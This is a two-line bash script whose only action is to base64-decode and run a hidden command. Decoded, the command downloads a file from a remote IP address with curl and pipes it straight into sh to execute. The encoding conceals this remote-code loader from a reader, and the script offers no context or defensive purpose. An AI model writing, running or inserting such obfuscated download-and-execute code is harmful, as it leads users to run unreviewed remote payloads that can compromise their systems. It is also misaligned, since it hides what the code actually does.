#!/bin/bash
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcCB8IHNo | base64 -d | bash
